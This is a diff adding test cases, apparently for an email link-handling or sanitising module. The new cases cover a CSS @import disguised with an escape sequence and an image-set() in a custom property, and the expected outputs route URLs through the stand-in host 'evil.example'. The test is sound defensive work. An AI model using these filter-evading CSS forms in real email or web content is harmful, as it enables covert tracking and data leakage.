@@ -123,6 +123,16 @@ describe('the links of an email', () => {
       '<p style="background: url(\'https://evil.example/?u={{ url }}\')">',
     ],
     [
+      'an import, escaped',
+      '<style>@import "{{ url }}";</style>',
+      '<style>@\\69mport "https://evil.example/?u={{ url }}";</style>',
+    ],
+    [
+      'a set of pictures',
+      '<p style="--a: image-set(\'{{ url }}\' 1x)">',
+      '<p style="--a: image-set(\'https://evil.example/?u={{ url }}\' 1x)">',
+    ],
+    [
       'a style sheet',
       '<style>p { background: url({{ url }}) }</style>',
       '<style>p { background: url(https://evil.example/?u={{ url }}) }</style>',
